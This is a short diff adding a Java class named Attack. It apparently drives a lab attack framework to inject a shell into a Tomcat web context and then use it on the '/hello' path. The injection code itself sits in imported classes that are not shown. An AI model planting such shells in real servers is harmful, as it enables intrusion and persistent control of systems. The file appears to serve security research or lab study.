@@ -1,0 +1,11 @@
+import com.sun.proxy.$Proxy99;
+import whorl.lab.attack.Shells;
+import whorl.lab.attack.TomcatContext;
+
+public class Attack {
+  public static void main(String[] args) throws Exception {
+    Shells.inject(TomcatContext.class, $Proxy99.class);
+    Shells.use("/hello");
+    whorl.lab.attack.Attacker.done();
+  }
+}
